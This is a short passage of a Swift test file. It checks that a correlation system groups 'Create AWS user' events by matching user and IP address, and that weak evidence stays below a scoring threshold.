            event("Create AWS user", "mallory", "203.0.113.7", at: 0),
            event("Create AWS user", "alice", "198.51.100.3", at: 5),
            event("Create AWS user", "mallory", "203.0.113.7", at: 9),
        ])
        #expect(result[0] == result[2] && result[0] != result[1])
    }

    @Test func weakEvidenceCannotReachTheThreshold() {
        let weak = Evidence.samePeer.weight + Evidence.sameLogin.weight
        #expect(weak + Weights.mostEncouragement < Evidence.threshold)
    }
}
